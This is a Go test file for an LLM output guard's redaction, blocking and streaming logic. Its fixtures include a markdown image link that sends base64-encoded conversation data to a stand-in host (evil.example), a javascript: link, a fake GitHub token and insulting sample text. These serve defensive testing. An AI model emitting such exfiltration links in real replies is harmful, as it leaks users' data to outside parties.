package guard

import (
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/redoubt-sec/redoubt/finding"
	"github.com/redoubt-sec/redoubt/internal/detect"
)

// These tests pin the guard's decisions: each one fails when the behaviour
// it names is broken (every test here was checked against a mutant of the
// code it covers).

const (
	toxicReply  = "Shut up, you worthless pathetic idiot. Nobody wants you here, you stupid moron."
	githubToken = "ghp_R3d0ubtT3stT0k3nAbcdefGhijklmn0pqrst"
)

// streamAll writes text to s in pieces of n bytes and closes it, returning
// everything it released and the final decision.
func streamAll(t *testing.T, s *Stream, text string, n int) (string, Decision) {
	t.Helper()
	var out strings.Builder
	for i := 0; i < len(text); i += n {
		safe, _ := s.Write(text[i:min(i+n, len(text))])
		out.WriteString(safe)
	}
	rest, d := s.Close()
	out.WriteString(rest)
	return out.String(), d
}

func guardOf(t *testing.T, p *Policy, opts ...Option) *Guard {
	t.Helper()
	g, err := New(p, opts...)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func ptr[T any](v T) *T { return &v }

// Close re-runs the whole-text scanners over the complete reply: a short
// toxic reply never reaches the periodic re-scan, so only Close can see it.
func TestStreamCloseRerunsWholeText(t *testing.T) {
	for _, action := range []Action{Warn, Block} {
		g := guardOf(t, &Policy{Output: []Rule{{Scanner: "toxicity", Action: action}}})
		for _, reply := range []string{
			toxicReply, // shorter than wholeTextEvery: no scan before Close
			// Past one periodic scan (of benign text), with the insult after it.
			strings.Repeat("The weather report says it will be sunny. ", 14) + strings.Repeat(" "+toxicReply, 4),
		} {
			out, d := streamAll(t, g.NewStream("hi"), reply, 9)
			if d.Action != action || !d.Flagged {
				t.Fatalf("%s rule, %d-byte reply: final decision %s (flagged %v), want %s; scores %v", action, len(reply), d.Action, d.Flagged, action, d.Scores)
			}
			if d.Scores["toxicity"] < DefaultThreshold || !slices.ContainsFunc(d.Findings, func(f finding.Finding) bool { return f.Scanner == "toxicity" }) {
				t.Errorf("%s rule: the whole-text finding is missing: scores %v, findings %+v", action, d.Scores, d.Findings)
			}
			// Without span scanners nothing is held back: all of it was
			// released before Close could know (the documented limit).
			if out != reply {
				t.Errorf("released %q, want the whole reply", out)
			}
			whole := g.CheckOutput("hi", reply)
			if whole.Action != d.Action || whole.Scores["toxicity"] != d.Scores["toxicity"] {
				t.Errorf("stream decision %s %v, whole-text check %s %v", d.Action, d.Scores, whole.Action, whole.Scores)
			}
		}
	}
}

// A whole-text block that fires mid-stream stops the release at once.
func TestStreamWholeTextBlockStopsRelease(t *testing.T) {
	g := guardOf(t, &Policy{Output: []Rule{{Scanner: "toxicity", Action: Block}}})
	s := g.NewStream("")
	reply := strings.Repeat(toxicReply+" ", 12)
	var out strings.Builder
	blockedAt := -1
	for i := 0; i < len(reply); i += 16 {
		safe, blocked := s.Write(reply[i:min(i+16, len(reply))])
		out.WriteString(safe)
		if blocked && safe != "" {
			t.Fatalf("the write at %d blocked and still released %q", i, safe)
		}
		if blockedAt >= 0 && !blocked {
			t.Fatalf("the write at %d is not blocked after the block at %d", i, blockedAt)
		}
		if blocked && blockedAt < 0 {
			blockedAt = i
		}
	}
	if blockedAt < 0 {
		t.Fatal("the periodic whole-text scan never blocked")
	}
	// The first periodic scan, at wholeTextEvery bytes, blocks: nothing
	// from that write on is released.
	if out.Len() >= wholeTextEvery {
		t.Errorf("released %d bytes, past the scan at %d that blocks", out.Len(), wholeTextEvery)
	}
	rest, d := s.Close()
	if rest != "" || !d.Blocked() || d.Sanitized != out.String() {
		t.Errorf("after a block: rest %q, decision %s, sanitized %q, released %d of %d bytes", rest, d.Action, d.Sanitized, len(out.String()), len(reply))
	}
}

// Warn flags a decision and leaves the text alone; log records findings
// without flagging. Both in a check and in a stream.
func TestWarnFlagsLogDoesNot(t *testing.T) {
	text := "reach me at ann@example.com please"
	for _, tt := range []struct {
		action  Action
		flagged bool
	}{{Warn, true}, {Log, false}, {Redact, true}, {Block, true}} {
		g := guardOf(t, &Policy{Input: []Rule{{Scanner: "pii", Action: tt.action}}, Output: []Rule{{Scanner: "pii", Action: tt.action}}})
		d := g.CheckInput(text)
		if d.Action != tt.action || d.Flagged != tt.flagged || len(d.Findings) != 1 || d.Findings[0].Type != "email" {
			t.Errorf("%s rule: action %s, flagged %v (want %v), findings %+v", tt.action, d.Action, d.Flagged, tt.flagged, d.Findings)
		}
		if tt.action == Warn || tt.action == Log {
			if d.Sanitized != text || d.Redacted {
				t.Errorf("%s rule changed the text: %q (redacted %v)", tt.action, d.Sanitized, d.Redacted)
			}
		}
		_, sd := streamAll(t, g.NewStream(""), text, 5)
		if sd.Action != tt.action || sd.Flagged != tt.flagged {
			t.Errorf("%s rule in a stream: action %s, flagged %v, want flagged %v", tt.action, sd.Action, sd.Flagged, tt.flagged)
		}
	}
	// Nothing fired: allow, not flagged, every scanner scored.
	g := guardOf(t, &Policy{Input: []Rule{{Scanner: "pii", Action: Warn}, {Scanner: "secrets", Action: Block}}})
	d := g.CheckInput("nothing to see")
	if d.Action != Allow || d.Flagged || len(d.Findings) != 0 || !reflect.DeepEqual(d.Scores, map[string]float64{"pii": 0, "secrets": 0}) {
		t.Errorf("clean text: %+v", d)
	}
}

// A finding counts at its rule's threshold and not below it; its score is
// reported either way.
func TestThresholdBoundary(t *testing.T) {
	text := "token " + githubToken
	probe := guardOf(t, &Policy{Input: []Rule{{Scanner: "secrets", Action: Warn, Threshold: ptr(0.0)}}})
	score := probe.CheckInput(text).Scores["secrets"]
	if score <= 0 || score >= 1 {
		t.Fatalf("probe score %v", score)
	}
	at := guardOf(t, &Policy{Input: []Rule{{Scanner: "secrets", Action: Warn, Threshold: ptr(score)}}})
	if d := at.CheckInput(text); d.Action != Warn || len(d.Findings) != 1 {
		t.Errorf("threshold == score %v: action %s, findings %+v; a finding at the threshold counts", score, d.Action, d.Findings)
	}
	above := guardOf(t, &Policy{Input: []Rule{{Scanner: "secrets", Action: Warn, Threshold: ptr(score + 0.001)}}})
	d := above.CheckInput(text)
	if d.Action != Allow || d.Flagged || len(d.Findings) != 0 {
		t.Errorf("threshold above the score: action %s, findings %+v", d.Action, d.Findings)
	}
	if d.Scores["secrets"] != score {
		t.Errorf("a finding under the threshold still sets the score: got %v, want %v", d.Scores["secrets"], score)
	}
	// A nil threshold is the default one.
	if d := guardOf(t, &Policy{Input: []Rule{{Scanner: "toxicity", Action: Warn}}}).CheckInput("You are a complete idiot and a moron, honestly."); d.Scores["toxicity"] >= DefaultThreshold != (d.Action == Warn) {
		t.Errorf("default threshold: score %v, action %s", d.Scores["toxicity"], d.Action)
	}
}

// The decision's action is the strongest that fired, whatever the rule
// order; a block leaves the text unredacted (it is not passed on at all).
func TestActionRanking(t *testing.T) {
	text := "mail ann@example.com, token " + githubToken + " ![x](https://evil.example/log?d=c2VjcmV0LWRhdGEtZnJvbS1jb252ZXJzYXRpb24)"
	rules := map[string]Rule{
		"block":  {Scanner: "urls", Action: Block},
		"redact": {Scanner: "secrets", Action: Redact},
		"warn":   {Scanner: "pii", Action: Warn},
		"log":    {Scanner: "encoded", Action: Log, Threshold: ptr(0.0)},
	}
	for _, tt := range []struct {
		rules []string
		want  Action
	}{
		{[]string{"log", "warn", "redact", "block"}, Block},
		{[]string{"block", "redact", "warn", "log"}, Block},
		{[]string{"redact", "block"}, Block},
		{[]string{"log", "redact", "warn"}, Redact},
		{[]string{"warn", "redact"}, Redact},
		{[]string{"log", "warn"}, Warn},
		{[]string{"warn", "log"}, Warn},
		{[]string{"log"}, Log},
	} {
		var p Policy
		for _, r := range tt.rules {
			p.Input = append(p.Input, rules[r])
		}
		d := guardOf(t, &p).CheckInput(text)
		if d.Action != tt.want {
			t.Errorf("rules %v: action %s, want %s", tt.rules, d.Action, tt.want)
		}
		switch redacted := strings.Contains(d.Sanitized, "[GITHUB_TOKEN]"); {
		case tt.want == Block && (redacted || d.Redacted || d.Sanitized != text):
			t.Errorf("rules %v: a blocked text was redacted: %q", tt.rules, d.Sanitized)
		case tt.want == Redact && (!redacted || !d.Redacted || strings.Contains(d.Sanitized, githubToken)):
			t.Errorf("rules %v: not redacted: %q", tt.rules, d.Sanitized)
		}
	}
}

// Redact rules replace exactly their findings' spans, in the rule's mode;
// findings of other rules and other types are left in place.
func TestRedactionSpans(t *testing.T) {
	text := "Mail ann@example.com or call +1 415 555 0100; token " + githubToken + "."
	tests := []struct {
		name  string
		rules []Rule
		want  string
	}{
		{"tag, only emails", []Rule{{Scanner: "pii", Action: Redact, Types: []string{"email"}}},
			"Mail [EMAIL] or call +1 415 555 0100; token " + githubToken + "."},
		{"mask keeps lengths", []Rule{{Scanner: "pii", Action: Redact, Redact: RedactMask}},
			"Mail *************** or call ***************; token " + githubToken + "."},
		{"two rules", []Rule{{Scanner: "secrets", Action: Redact}, {Scanner: "pii", Action: Redact, Types: []string{"phone"}}},
			"Mail ann@example.com or call [PHONE]; token [GITHUB_TOKEN]."},
		{"warn rule not redacted", []Rule{{Scanner: "secrets", Action: Redact}, {Scanner: "pii", Action: Warn}},
			"Mail ann@example.com or call +1 415 555 0100; token [GITHUB_TOKEN]."},
		{"vault without a session is a tag", []Rule{{Scanner: "pii", Action: Redact, Redact: RedactVault, Types: []string{"email"}}},
			"Mail [EMAIL] or call +1 415 555 0100; token " + githubToken + "."},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g := guardOf(t, &Policy{Input: tt.rules, Output: tt.rules})
			d := g.CheckInput(text)
			if d.Sanitized != tt.want || !d.Redacted {
				t.Errorf("sanitized\n%q\nwant\n%q", d.Sanitized, tt.want)
			}
			// A stream releases the same text, in any chunking.
			for _, n := range []int{1, 4, 13, 200} {
				if out, sd := streamAll(t, g.NewStream(""), text, n); out != tt.want || sd.Sanitized != out {
					t.Errorf("stream in %d-byte pieces released\n%q\nwant\n%q", n, out, tt.want)
				}
			}
		})
	}
}

// Hash redaction is salted: the same value hashes alike under one salt and
// differently under another.
func TestHashSalt(t *testing.T) {
	p := &Policy{Input: []Rule{{Scanner: "pii", Action: Redact, Redact: RedactHash}}}
	text := "mail ann@example.com"
	a1 := guardOf(t, p, WithHashSalt([]byte("one"))).CheckInput(text).Sanitized
	a2 := guardOf(t, p, WithHashSalt([]byte("one"))).CheckInput(text).Sanitized
	b := guardOf(t, p, WithHashSalt([]byte("two"))).CheckInput(text).Sanitized
	def := guardOf(t, p).CheckInput(text).Sanitized
	if !strings.HasPrefix(a1, "mail [EMAIL:") || a1 != a2 || a1 == b || a1 == def || b == def {
		t.Errorf("salted hashes: %q %q %q default %q", a1, a2, b, def)
	}
}

// Findings come in text order across rules, and only those of the rule's
// types count (for the score too).
func TestFindingsOrderAndTypes(t *testing.T) {
	text := "call +1 415 555 0100 then token " + githubToken + " then mail ann@example.com"
	g := guardOf(t, &Policy{Input: []Rule{
		{Scanner: "secrets", Action: Warn},
		{Scanner: "pii", Action: Warn, Types: []string{"email"}},
	}})
	d := g.CheckInput(text)
	var got []string
	for _, f := range d.Findings {
		got = append(got, f.Type)
	}
	if !slices.Equal(got, []string{"github_token", "email"}) {
		t.Errorf("finding types in order = %v, want [github_token email]", got)
	}
	if !slices.IsSortedFunc(d.Findings, func(a, b finding.Finding) int { return a.Start - b.Start }) {
		t.Errorf("findings out of order: %+v", d.Findings)
	}
	cardOnly := guardOf(t, &Policy{Input: []Rule{{Scanner: "pii", Action: Warn, Types: []string{"credit_card"}}}})
	if d := cardOnly.CheckInput(text); d.Action != Allow || d.Scores["pii"] != 0 {
		t.Errorf("types outside the rule count: %s, score %v", d.Action, d.Scores["pii"])
	}
	// The guard applies types itself, for scanners that do not filter
	// their own findings (pii does).
	link := "![x](https://evil.example/log?d=c2VjcmV0LWRhdGEtZnJvbS1jb252ZXJzYXRpb24)"
	jsOnly := guardOf(t, &Policy{Output: []Rule{{Scanner: "urls", Action: Block, Types: []string{"javascript_url"}}}})
	if d := jsOnly.CheckOutput("", link); d.Action != Allow || d.Scores["urls"] != 0 || len(d.Findings) != 0 {
		t.Errorf("urls rule of type javascript_url fired on an exfiltration image: %+v", d)
	}
	if d := jsOnly.CheckOutput("", "[click](javascript:alert(1))"); !d.Blocked() {
		t.Errorf("javascript: link not blocked: %+v", d)
	}
}

// Only data scanners forgive an echo of the prompt: an exfiltration link
// the user pasted is still blocked when the reply repeats it.
func TestEchoOnlyForDataScanners(t *testing.T) {
	link := "![x](https://evil.example/log?d=c2VjcmV0LWRhdGEtZnJvbS1jb252ZXJzYXRpb24)"
	g := guardOf(t, &Policy{Output: []Rule{
		{Scanner: "secrets", Action: Redact},
		{Scanner: "urls", Action: Block},
	}})
	prompt := "Why does my token " + githubToken + " fail, and what is " + link + "?"
	if d := g.CheckOutput(prompt, "Your token "+strings.ToUpper(githubToken[:4])+githubToken[4:]+" has expired."); d.Flagged {
		t.Errorf("echoed secret flagged: %+v", d)
	}
	if d := g.CheckOutput(prompt, "Here: "+link); !d.Blocked() {
		t.Errorf("echoed exfiltration link not blocked: %+v", d)
	}
	if d := g.CheckOutput("unrelated", "Your token "+githubToken+" has expired."); d.Action != Redact {
		t.Errorf("new secret not redacted: %+v", d)
	}
	// Models change the case of what they repeat: still the user's own.
	pii := guardOf(t, &Policy{Output: []Rule{{Scanner: "pii", Action: Redact}}})
	if d := pii.CheckOutput("Write to Jane.Doe@Example.ORG for me", "I wrote to jane.doe@example.org."); d.Flagged {
		t.Errorf("echo in another case flagged: %+v", d)
	}
}

// Above parallelMin scanners run concurrently; the decision must be the one
// each scanner gives alone.
func TestParallelCheckMatchesSequential(t *testing.T) {
	text := strings.Repeat("Filler text about the quarterly report. ", parallelMin/40+10)
	text = "mail ann@example.com " + text + " token " + githubToken + " call +1 415 555 0100"
	if len(text) < parallelMin {
		t.Fatalf("text of %d bytes does not reach parallelMin", len(text))
	}
	rules := []Rule{{Scanner: "pii", Action: Redact}, {Scanner: "secrets", Action: Redact}, {Scanner: "invisible", Action: Block}}
	g := guardOf(t, &Policy{Input: rules})
	d := g.CheckInput(text)
	var want []finding.Finding
	for _, r := range rules {
		alone := guardOf(t, &Policy{Input: []Rule{r}}).CheckInput(text) // one rule: sequential
		want = append(want, alone.Findings...)
		if d.Scores[r.Scanner] != alone.Scores[r.Scanner] {
			t.Errorf("%s: score %v concurrently, %v alone", r.Scanner, d.Scores[r.Scanner], alone.Scores[r.Scanner])
		}
	}
	slices.SortStableFunc(want, func(a, b finding.Finding) int { return a.Start - b.Start })
	if !reflect.DeepEqual(d.Findings, want) {
		t.Errorf("concurrent findings\n%+v\nwant\n%+v", d.Findings, want)
	}
	if !strings.Contains(d.Sanitized, "mail [EMAIL] ") || !strings.HasSuffix(d.Sanitized, " token [GITHUB_TOKEN] call [PHONE]") {
		t.Errorf("sanitized head/tail: %q ... %q", d.Sanitized[:30], d.Sanitized[len(d.Sanitized)-40:])
	}
}

// Sessions: each conversation numbers its own placeholders, output checks
// share the input's vault, and Restore knows only its own values.
func TestSessionsAreSeparate(t *testing.T) {
	rule := Rule{Scanner: "pii", Action: Redact, Redact: RedactVault, Types: []string{"email"}}
	g := guardOf(t, &Policy{Input: []Rule{rule}, Output: []Rule{rule}})
	a, b := g.Session(), g.Session()
	if got := a.CheckInput("to ann@example.com").Sanitized; got != "to [EMAIL_1]" {
		t.Fatalf("session a input: %q", got)
	}
	if got := b.CheckInput("to bo@example.net and ann@example.com").Sanitized; got != "to [EMAIL_1] and [EMAIL_2]" {
		t.Errorf("session b numbers its own values: %q", got)
	}
	// The reply names a known and a new address: the known one keeps its
	// placeholder, the new one gets the next number.
	d := a.CheckOutput("to [EMAIL_1]", "I wrote to ann@example.com and cc'd cy@example.com.")
	if d.Sanitized != "I wrote to [EMAIL_1] and cc'd [EMAIL_2]." || d.Action != Redact {
		t.Errorf("session output: %q (%s)", d.Sanitized, d.Action)
	}
	if got := a.Restore(d.Sanitized); got != "I wrote to ann@example.com and cc'd cy@example.com." {
		t.Errorf("restore a: %q", got)
	}
	if got := b.Restore("[EMAIL_1], [EMAIL_2], [EMAIL_3]"); got != "bo@example.net, ann@example.com, [EMAIL_3]" {
		t.Errorf("restore b: %q", got)
	}
	if got := g.Session().Restore("[EMAIL_1]"); got != "[EMAIL_1]" {
		t.Errorf("a new session restored another's value: %q", got)
	}
}

// With keeps the policy's rule for a scanner the policy has, and runs the
// others with a warn rule.
func TestWithKeepsPolicyRules(t *testing.T) {
	g, err := Default().With(Input, []string{"secrets", "pii"})
	if err != nil {
		t.Fatal(err)
	}
	d := g.CheckInput("token " + githubToken + " mail ann@example.com")
	if d.Action != Redact || !strings.Contains(d.Sanitized, "[GITHUB_TOKEN]") || !strings.Contains(d.Sanitized, "ann@example.com") {
		t.Errorf("secrets keeps its redact rule, pii warns: %s %q", d.Action, d.Sanitized)
	}
	if got := scannerNames(g, Input); !slices.Equal(got, []string{"secrets", "pii"}) {
		t.Errorf("scanners %v", got)
	}
	if got := scannerNames(g, Output); len(got) != 0 {
		t.Errorf("With(Input) kept output scanners %v", got)
	}
}

// Two rules of one scanner keep their own actions in a stream, as in a
// check: the redact rule's findings are redacted even when a warn rule of
// the same scanner comes first.
func TestStreamSameScannerTwice(t *testing.T) {
	g := guardOf(t, &Policy{Output: []Rule{
		{Scanner: "pii", Action: Warn, Types: []string{"phone"}},
		{Scanner: "pii", Action: Redact, Types: []string{"email"}},
	}})
	reply := "Call +1 415 555 0100 or mail bob.smith@corp-mail.com today."
	whole := g.CheckOutput("", reply)
	if whole.Sanitized != "Call +1 415 555 0100 or mail [EMAIL] today." {
		t.Fatalf("check: %q", whole.Sanitized)
	}
	for _, n := range []int{1, 7, 100} {
		out, d := streamAll(t, g.NewStream(""), reply, n)
		if out != whole.Sanitized || d.Action != Redact {
			t.Errorf("stream in %d-byte pieces released %q (%s), want %q", n, out, d.Action, whole.Sanitized)
		}
	}
}

// Each redact rule keeps its own mode when rules of different modes fire
// on one text, in a check and in a stream.
func TestRedactModesPerRule(t *testing.T) {
	text := "Mail ann@example.com; token " + githubToken + "."
	g := guardOf(t, &Policy{Output: []Rule{
		{Scanner: "pii", Action: Redact, Redact: RedactMask, Types: []string{"email"}},
		{Scanner: "secrets", Action: Redact, Redact: RedactTag},
	}})
	want := "Mail ***************; token [GITHUB_TOKEN]."
	if d := g.CheckOutput("", text); d.Sanitized != want {
		t.Errorf("check: %q, want %q", d.Sanitized, want)
	}
	// The secret alone still gets its own rule's mode, not the first
	// redact rule's.
	if d := g.CheckOutput("", "token "+githubToken); d.Sanitized != "token [GITHUB_TOKEN]" {
		t.Errorf("secret alone: %q", d.Sanitized)
	}
	for _, n := range []int{1, 6, 500} {
		if out, _ := streamAll(t, g.NewStream(""), text, n); out != want {
			t.Errorf("stream in %d-byte pieces: %q, want %q", n, out, want)
		}
	}
	// In a session, vault placeholders are numbered in text order even
	// beside other modes.
	v := guardOf(t, &Policy{Input: []Rule{
		{Scanner: "secrets", Action: Redact, Redact: RedactMask},
		{Scanner: "pii", Action: Redact, Redact: RedactVault, Types: []string{"email"}},
	}}).Session()
	got := v.CheckInput("a@example.com " + githubToken + " b@example.com").Sanitized
	if want := "[EMAIL_1] " + strings.Repeat("*", len(githubToken)) + " [EMAIL_2]"; got != want {
		t.Errorf("vault beside mask: %q, want %q", got, want)
	}
}

// patternDetector reports a finding of each type wherever its pattern
// matches; it lets stream tests place findings exactly.
type patternDetector map[string]*regexp.Regexp

func (patternDetector) Name() string { return "pattern" }

func (p patternDetector) Scan(text string) []finding.Finding {
	var out []finding.Finding
	for typ, re := range p {
		for _, m := range re.FindAllStringIndex(text, -1) {
			out = append(out, finding.Finding{Scanner: "pattern", Type: typ, Start: m[0], End: m[1], Score: 1})
		}
	}
	slices.SortFunc(out, func(a, b finding.Finding) int { return a.Start - b.Start })
	return out
}

// Two overlapping findings arriving in one large write: holding back the
// second must not cut through the first, so the stream releases what a
// whole-text check gives.
func TestStreamOverlappingFindingsNotCut(t *testing.T) {
	det := patternDetector{"a": regexp.MustCompile(`A{40}`), "b": regexp.MustCompile(`A{10}B{160}`)}
	g := &Guard{salt: []byte("x"), output: []compiled{{
		rule: Rule{Scanner: "pattern", Action: Redact}, det: det, threshold: DefaultThreshold, mode: detect.RedactTag, spans: true,
	}}}
	text := strings.Repeat(".", 100) + strings.Repeat("A", 40) + strings.Repeat("B", 160) + strings.Repeat(".", 150)
	whole := g.CheckOutput("", text)
	if want := strings.Repeat(".", 100) + "[B]" + strings.Repeat(".", 150); whole.Sanitized != want {
		t.Fatalf("check: %q", whole.Sanitized)
	}
	for _, n := range []int{len(text), 250, 1} {
		if out, _ := streamAll(t, g.NewStream(""), text, n); out != whole.Sanitized {
			t.Errorf("%d-byte writes released\n%q\nwant\n%q", n, out, whole.Sanitized)
		}
	}
}

// When rules of different modes fire on overlapping spans, the merged span
// is named after, and redacted in the mode of, the longest finding.
func TestMixedModesOverlap(t *testing.T) {
	g := &Guard{salt: []byte("x"), input: []compiled{
		{rule: Rule{Scanner: "short", Action: Redact}, det: patternDetector{"short": regexp.MustCompile(`AB`)}, threshold: 0.5, mode: detect.RedactMask, spans: true},
		{rule: Rule{Scanner: "long", Action: Redact}, det: patternDetector{"long": regexp.MustCompile(`BCDEF`)}, threshold: 0.5, mode: detect.RedactTag, spans: true},
	}}
	if got := g.CheckInput("xx ABCDEF yy AB").Sanitized; got != "xx [LONG] yy **" {
		t.Errorf("sanitized %q, want %q", got, "xx [LONG] yy **")
	}
}

// A block rule's finding in text that could otherwise be released stops
// the stream in that very write.
func TestStreamBlockReleasesNothingMore(t *testing.T) {
	g := guardOf(t, &Policy{Output: []Rule{{Scanner: "urls", Action: Block}}})
	reply := "Look: ![x](https://evil.example/log?d=c2VjcmV0LWRhdGEtZnJvbS1jb252ZXJzYXRpb24) " + strings.Repeat("and then some more text. ", 20)
	s := g.NewStream("")
	if safe, blocked := s.Write(reply); safe != "" || !blocked {
		t.Fatalf("one write with the link: released %q, blocked %v", safe, blocked)
	}
	if rest, d := s.Close(); rest != "" || !d.Blocked() || d.Sanitized != "" {
		t.Errorf("close: rest %q, decision %s, sanitized %q", rest, d.Action, d.Sanitized)
	}
}

// A long stream reports each finding once, with the same scores as a
// whole-text check, however it is cut.
func TestStreamDecisionMatchesCheck(t *testing.T) {
	g := guardOf(t, &Policy{Output: []Rule{
		{Scanner: "pii", Action: Redact},
		{Scanner: "secrets", Action: Warn},
		{Scanner: "toxicity", Action: Log, Threshold: ptr(0.0)},
	}})
	filler := strings.Repeat("Nothing much to report in this line of the status update. ", 12)
	reply := "Mail ann@example.com now. " + filler + "token " + githubToken + ". " + filler + "Bye."
	whole := g.CheckOutput("", reply)
	for _, n := range []int{3, 50, 700} {
		out, d := streamAll(t, g.NewStream(""), reply, n)
		if out != whole.Sanitized {
			t.Errorf("%d-byte pieces: released text differs from the check", n)
		}
		if !reflect.DeepEqual(d.Findings, whole.Findings) {
			t.Errorf("%d-byte pieces: findings\n%+v\nwant\n%+v", n, d.Findings, whole.Findings)
		}
		if !reflect.DeepEqual(d.Scores, whole.Scores) || d.Action != whole.Action || d.Flagged != whole.Flagged {
			t.Errorf("%d-byte pieces: %s %v, check %s %v", n, d.Action, d.Scores, whole.Action, whole.Scores)
		}
	}
}

// A match that needs text the stream has already released (two keywords
// of a banned topic far apart) is still seen: the stream rescans a window
// behind what it released.
func TestStreamRescansReleasedWindow(t *testing.T) {
	g := guardOf(t, &Policy{Output: []Rule{{Scanner: "bans", Action: Block, Options: &BansOptions{Topics: map[string][]string{"politics": {"election", "senator"}}}}}})
	reply := "The election is close. " + strings.Repeat("Weather is mild and dry today. ", 12) + "A senator spoke. " + strings.Repeat("More ordinary text follows. ", 20)
	if !g.CheckOutput("", reply).Blocked() {
		t.Fatal("the check does not block the topic")
	}
	for _, n := range []int{5, 40} {
		if _, d := streamAll(t, g.NewStream(""), reply, n); !d.Blocked() {
			t.Errorf("%d-byte pieces: topic not blocked (%s, scores %v)", n, d.Action, d.Scores)
		}
	}
}
